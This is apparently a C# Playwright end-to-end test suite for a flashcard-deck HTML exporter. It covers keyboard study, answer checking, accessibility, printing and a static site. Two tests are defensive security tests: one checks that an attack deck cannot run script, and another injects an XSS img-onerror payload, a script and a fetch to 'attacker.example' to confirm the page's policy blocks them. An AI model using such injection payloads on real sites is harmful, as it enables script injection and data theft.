using Microsoft.Playwright;
using WsgiLsp.EndToEnd.Tests.Web;

namespace WsgiLsp.EndToEnd.Tests.Pages;

public sealed class StudyPageTests : IAsyncLifetime
{
    private readonly PageFolder folder = new();
    private Browser browser = null!;

    public async ValueTask InitializeAsync() => browser = await Browser.StartAsync();

    public async ValueTask DisposeAsync()
    {
        folder.Dispose();
        if (browser is not null)
        {
            await browser.DisposeAsync();
        }
    }

    [Fact]
    public async Task A_learner_goes_through_the_cards_with_keys_alone()
    {
        var page = await OpenAsync("wsgi-servers.deck.md");
        await page.Keyboard.PressAsync("j");
        await FocusIsOnAsync(page, "What does WSGI stand for?");
        await page.Keyboard.PressAsync("ArrowRight");
        await page.Keyboard.PressAsync("ArrowRight");
        await FocusIsOnAsync(page, "Which two arguments does a WSGI server pass to the application?");
        var card = page.Locator(".card:focus");
        Assert.False(await card.GetByText("One carries the request in.").IsVisibleAsync());
        await page.Keyboard.PressAsync("h");
        Assert.True(await card.GetByText("One carries the request in.").IsVisibleAsync());
        Assert.False(await card.GetByText("environ is a dictionary").IsVisibleAsync());
        await page.Keyboard.PressAsync("Space");
        Assert.True(await card.GetByText("environ is a dictionary").IsVisibleAsync());
        await page.Keyboard.PressAsync("Space");
        Assert.False(await card.GetByText("environ is a dictionary").IsVisibleAsync());
        await page.Keyboard.PressAsync("k");
        await FocusIsOnAsync(page, "Why does WSGI matter?");
        await page.Keyboard.PressAsync("?");
        await page.GetByRole(AriaRole.Dialog, new() { Name = "Keys" }).WaitForAsync();
        await page.Keyboard.PressAsync("Escape");
        await page.GetByRole(AriaRole.Dialog).WaitForAsync(new() { State = WaitForSelectorState.Hidden });
        NothingElse();
    }

    [Fact]
    public async Task Each_option_of_a_question_is_told_about()
    {
        var page = await OpenAsync("wsgi-servers.deck.md");
        var card = Card(page, "What is the main job of a WSGI server?");
        await card.FocusAsync();
        Assert.False(await card.GetByText("Routing stays in the app.").IsVisibleAsync());
        await page.Keyboard.PressAsync("b");
        Assert.Equal("Not right", await card.GetByRole(AriaRole.Status).TextContentAsync());
        Assert.True(await card.GetByText("Routing stays in the app.").IsVisibleAsync());
        Assert.True(await card.GetByText("A database driver or SQLAlchemy does that.").IsVisibleAsync());
        await Browser.ShootAsync(page, "study-page");
        await page.Keyboard.PressAsync("3");
        Assert.Equal("Right", await card.GetByRole(AriaRole.Status).TextContentAsync());
        await page.Keyboard.PressAsync("j");
        Assert.DoesNotContain(
            "What is the main job",
            await page.Locator(".card:focus").InnerTextAsync(),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task Concepts_are_found_and_may_be_ticked_by_hand()
    {
        var page = await OpenAsync("mixed.deck.md");
        var card = page.Locator(".card.explain").First;
        var count = await card.Locator(".concepts input").CountAsync();
        Assert.False(await card.Locator(".concepts").IsVisibleAsync());
        await card.GetByRole(AriaRole.Textbox).FillAsync(ExplainedInPart);
        await page.Keyboard.PressAsync("Shift+Enter");
        var status = card.GetByRole(AriaRole.Status);
        Assert.Equal($"You got 1 of {count} concepts", await status.TextContentAsync());
        await card.Locator(".concepts input:not(:checked)").First.CheckAsync();
        Assert.Equal($"You got 2 of {count} concepts", await status.TextContentAsync());
        await card.Locator(".concepts input:checked").First.UncheckAsync();
        Assert.Equal($"You got 1 of {count} concepts", await status.TextContentAsync());
    }

    [Theory]
    [InlineData("What is the capital of France?", "Berlin", "Not right", "parís", "Right")]
    [InlineData("The colour", "red", "Not right", "Blue", "Right")]
    [InlineData("What comes when?", "3 1 2", "Not right: 1 of 3", "3 2 1", "Right")]
    [InlineData("Who does what?", "A -", "Not right: 0 of 2", "B A", "Right")]
    public async Task What_is_written_is_judged(string title, string wrong, string said, string right, string then)
    {
        var page = await OpenAsync("mixed.deck.md");
        var card = Card(page, title);
        foreach (var (given, verdict) in new[] { (wrong, said), (right, then) })
        {
            var selects = await card.Locator("select").AllAsync();
            foreach (var (select, choice) in selects.Zip(given.Split(' ')))
            {
                await select.SelectOptionAsync(choice == "-" ? "" : choice);
            }

            if (selects.Count == 0)
            {
                await card.GetByRole(AriaRole.Textbox).FillAsync(given);
                await page.Keyboard.PressAsync("Enter");
            }
            else
            {
                await card.GetByRole(AriaRole.Button, new() { Name = "Check" }).ClickAsync();
            }

            Assert.Equal(verdict, await card.GetByRole(AriaRole.Status).TextContentAsync());
        }
    }

    [Fact]
    public async Task Levels_can_be_left_out()
    {
        var page = await OpenAsync("wsgi-servers.deck.md");
        var all = await page.Locator(".card").CountAsync();
        var advanced = await page.Locator(".card[data-level=advanced]").CountAsync();
        Assert.InRange(advanced, 1, all - 1);
        await page.GetByLabel("advanced").UncheckAsync();
        Assert.Equal(all - advanced, await page.Locator(".card:visible").CountAsync());
        Assert.Equal($"{all - advanced} of {all} cards", await page.Locator(".tools .status").TextContentAsync());
    }

    [Fact]
    public async Task A_cheat_sheet_shows_answers_only()
    {
        var page = await OpenAsync("mixed.deck.md");
        await page.Keyboard.PressAsync("s");
        Assert.Equal(
            0,
            await page.Locator(".field:visible, .options:visible, .check:visible, .hint:visible").CountAsync()
        );
        Assert.Equal(
            await page.Locator(".card").CountAsync(),
            await page.Locator(".answer[open]:visible").CountAsync()
        );
        await Browser.ShootAsync(page, "cheat-sheet", isWhole: true);
        await page.Keyboard.PressAsync("s");
        Assert.Equal(0, await page.Locator(".answer[open]").CountAsync());
    }

    [Fact]
    public async Task Without_scripts_everything_can_be_read()
    {
        var page = await OpenAsync("mixed.deck.md", runsScripts: false);
        Assert.False(await page.Locator(".tools").IsVisibleAsync());
        Assert.Equal(0, await page.Locator(".check:visible").CountAsync());
        foreach (var card in await page.Locator(".card").AllAsync())
        {
            var answer = card.Locator(".answer > summary");
            await answer.ClickAsync();
            Assert.NotEqual(
                "",
                (await card.Locator(".answer").InnerTextAsync()).Replace("Answer", "", StringComparison.Ordinal).Trim()
                    + string.Concat(await card.Locator(".feedback:visible").AllInnerTextsAsync())
            );
        }

        await Browser.ShootAsync(page, "without-scripts", isWhole: true);
        NothingElse();
    }

    [Fact]
    public async Task On_paper_all_answers_are_there()
    {
        var page = await OpenAsync("mixed.deck.md", runsScripts: false);
        await page.EmulateMediaAsync(new() { Media = Media.Print });
        Assert.Equal(await page.Locator(".card").CountAsync(), await page.Locator(".card:visible").CountAsync());
        Assert.False(await page.Locator(".answer > summary").First.IsVisibleAsync());
        await Browser.ShootAsync(page, "print", isWhole: true);
        var paper = await page.PdfAsync(new() { Format = "A4", PrintBackground = true });
        Assert.InRange(paper.Length, 5_000, 5_000_000);
        if (Environment.GetEnvironmentVariable("E2E_SHOTS") is { } shots)
        {
            await File.WriteAllBytesAsync(
                Path.Combine(shots, "print.pdf"),
                paper,
                TestContext.Current.CancellationToken
            );
        }
    }

    [Fact]
    public async Task A_deck_that_means_harm_gets_nowhere()
    {
        var page = await OpenAsync("attack.deck.md");
        await page.EvaluateAsync("() => { window.pwned = (what) => (document.title = 'pwned ' + what); }");
        await page.GetByRole(AriaRole.Button, new() { Name = "Show all answers" }).ClickAsync();
        foreach (var check in await page.Locator(".check").AllAsync())
        {
            await check.ClickAsync();
        }

        await page.EvaluateAsync(
            """
            () => document.querySelectorAll("main *").forEach((place) =>
              ["click", "mouseover", "focus", "load", "error"].forEach((name) => place.dispatchEvent(new Event(name))))
            """
        );
        Assert.DoesNotContain(
            "pwned",
            (await page.TitleAsync()).Replace("pwned('title')", "", StringComparison.Ordinal),
            StringComparison.Ordinal
        );
        Assert.Equal(1, await page.Locator("script").CountAsync());
        Assert.Equal(1, await page.Locator("style").CountAsync());
        Assert.Equal(
            0,
            await page.Locator("main :is(img, iframe, object, svg, link, base, a[href^='javascript'], a[href^='data'])")
                .CountAsync()
        );
        Assert.Equal(
            "rgb(246, 244, 239)",
            await page.EvaluateAsync<string>("() => getComputedStyle(document.documentElement).backgroundColor")
        );
        NothingElse();
    }

    [Fact]
    public async Task The_policy_holds_should_something_get_in()
    {
        var page = await OpenAsync("mixed.deck.md");
        await page.EvaluateAsync(
            """
            () => {
              document.body.insertAdjacentHTML("beforeend", "<img src='https://attacker.example/a.png' onerror='document.title = 1'>");
              document.body.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'pwned'" }));
              fetch("https://attacker.example/b").catch(() => {});
            }
            """
        );
        Assert.Equal("Mixed", await page.TitleAsync());
        Assert.Empty(browser.Requests);
        Assert.NotEmpty(browser.Complaints);
    }

    [Theory]
    [InlineData(ColorScheme.Light)]
    [InlineData(ColorScheme.Dark)]
    public async Task Axe_finds_nothing(ColorScheme scheme)
    {
        _ = Browser.AxePath();
        foreach (var deck in new[] { "mixed.deck.md", "wsgi-servers.deck.md", "texts.deck.md" })
        {
            var page = await OpenAsync(deck, scheme);
            Assert.Equal("", await Browser.AxeAsync(page));
            await Browser.ShootAsync(page, $"study-page-{scheme}-{deck[..5]}");
            await page.Locator(".options [data-key=false]").First.ClickAsync();
            await page.GetByRole(AriaRole.Button, new() { Name = "Show all answers" }).ClickAsync();
            foreach (var check in await page.Locator(".check").AllAsync())
            {
                await check.ClickAsync();
            }

            Assert.Equal("", await Browser.AxeAsync(page));
            await Browser.ShootAsync(page, $"study-page-{scheme}-{deck[..5]}-answers", isWhole: true);
            await page.Keyboard.PressAsync("Escape");
            await page.GetByRole(AriaRole.Button, new() { Name = "Cheat sheet" }).ClickAsync();
            Assert.Equal("", await Browser.AxeAsync(page));
            await page.GetByRole(AriaRole.Button, new() { Name = "Keys" }).ClickAsync();
            Assert.Equal("", await Browser.AxeAsync(page));
            await Browser.ShootAsync(page, $"study-page-{scheme}-keys");
        }
    }

    [Fact]
    public async Task The_theme_is_switched_and_remembered()
    {
        var page = await OpenAsync("mixed.deck.md");
        await page.Keyboard.PressAsync("t");
        await page.ReloadAsync();
        Assert.Equal("dark", await page.EvaluateAsync<string>("() => document.documentElement.dataset.theme"));
        Assert.Equal(
            "true",
            await page.GetByRole(AriaRole.Button, new() { Name = "Dark" }).GetAttributeAsync("aria-pressed")
        );
    }

    [Fact]
    public async Task A_site_is_searched_and_its_pages_lead_to_each_other()
    {
        await folder.MakeAsync("site", "export", "--site", "mixed.deck.md", "wsgi-servers.deck.md");
        var page = await browser.OpenAsync(folder.At(Path.Combine("site", "index.html")));
        Assert.Equal("", await Browser.AxeAsync(page));
        await Browser.ShootAsync(page, "site");
        await page.Keyboard.PressAsync("/");
        await page.Keyboard.TypeAsync("gunicorn sync");
        await page.GetByRole(AriaRole.Link, new() { Name = "buffering proxy" }).ClickAsync();
        await page.Locator(".card:target").WaitForAsync();
        await page.GetByRole(AriaRole.Link, new() { Name = "All decks" }).ClickAsync();
        await page.Locator("[type=search]").WaitForAsync();
        NothingElse();
    }

    [Theory]
    [InlineData(ColorScheme.Light)]
    [InlineData(ColorScheme.Dark)]
    public async Task The_statistics_are_clean_too(ColorScheme scheme)
    {
        var page = await browser.OpenAsync(
            await folder.MakeAsync("stats.html", "stats", "--html", "wsgi-servers.deck.md"),
            scheme
        );
        Assert.Equal("", await Browser.AxeAsync(page));
        await page.Locator(".numbers > summary").First.ClickAsync();
        Assert.Equal("", await Browser.AxeAsync(page));
        Assert.Equal("", await ContrastCheck.FindingsAsync(page));
        await Browser.ShootAsync(page, $"stats-{scheme}", isWhole: true);
        NothingElse();
    }

    [Fact]
    public async Task A_narrow_window_needs_no_scrolling_sideways()
    {
        var page = await browser.OpenAsync(
            await folder.MakeAsync("a.html", "export", "--html", "mixed.deck.md"),
            width: 360
        );
        Assert.True(await page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= innerWidth"));
        await Browser.ShootAsync(page, "narrow", isWhole: true);
    }

    /// <summary>A picture shrinks with its page; what is written in it must not shrink as much.</summary>
    [Fact]
    public async Task What_is_written_in_figures_can_be_read_in_a_narrow_window()
    {
        var page = await browser.OpenAsync(
            await folder.MakeAsync("stats.html", "stats", "--html", "wsgi-servers.deck.md"),
            width: 360
        );
        var smallest = await page.EvaluateAsync<double>(
            "Math.min(...[...document.querySelectorAll('.chart text')].map((one) => one.getBoundingClientRect().height))"
        );
        Assert.InRange(smallest, 9, 30);
        Assert.True(await page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= innerWidth"));
    }

    private const string ExplainedInPart = "It is the moons that do it, I think.";

    private async Task<IPage> OpenAsync(string deck, ColorScheme scheme = ColorScheme.Light, bool runsScripts = true) =>
        await browser.OpenAsync(await folder.MakeAsync("page.html", "export", "--html", deck), scheme, runsScripts);

    private static ILocator Card(IPage page, string title) =>
        page.GetByRole(AriaRole.Article, new() { Name = title, Exact = true });

    private static async Task FocusIsOnAsync(IPage page, string title) =>
        Assert.Equal(title, await page.Locator(".card:focus > :is(h2, h3, h4)").InnerTextAsync());

    private void NothingElse()
    {
        Assert.Empty(browser.Requests);
        Assert.Empty(browser.Complaints);
    }
}
